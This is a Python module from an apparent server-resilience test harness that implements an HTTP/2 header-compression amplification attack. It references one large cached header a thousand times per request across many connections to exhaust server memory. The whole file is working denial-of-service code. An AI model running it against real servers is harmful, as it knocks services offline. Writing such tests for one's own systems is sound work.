"""A header of 4 kB that the server keeps, named again and again at one byte each: 1.2 kB that become 4 MB of metadata.

Without a credential. What was seen to do harm: 500 a second, of which a thousand were kept while they waited to be turned away.
"""

import asyncio
from collections import Counter

from support.attackers import Order
from support.attackers._http2 import FIRST_OF_TABLE, Connection, indexed, literal, request_headers
from support.attackers.gzip_bomb import PATHS

CONNECTIONS = 8
PER_SECOND = 5_000
_AT_ONCE = 25
_NAMED = 1_000
_SIZE = 3_700


async def attack(order: Order, over: asyncio.Event) -> Counter[str]:
    """See `support.attackers`."""
    answers: Counter[str] = Counter()

    async def keep_on(address: str, path: str) -> None:
        headers = request_headers(path)
        pause = CONNECTIONS * _AT_ONCE / (PER_SECOND * order.times)
        while not over.is_set():
            connection = await Connection.open(address, answers)
            if connection is not None:
                connection.begin(headers + literal("x", "y" * _SIZE, keep=True), end=True)
                await connection.flush()
            while connection is not None and not connection.over and not over.is_set():
                for _ in range(_AT_ONCE):
                    connection.begin(headers + indexed(FIRST_OF_TABLE) * _NAMED, end=True)
                await connection.flush()
                await asyncio.sleep(pause)
            if connection is not None:
                await connection.close()
            await asyncio.sleep(pause)

    async with asyncio.TaskGroup() as group:
        for address, path in zip((order.authority, order.devices), PATHS, strict=True):
            for _ in range(CONNECTIONS if address else 0):
                group.create_task(keep_on(address, path))
    return answers
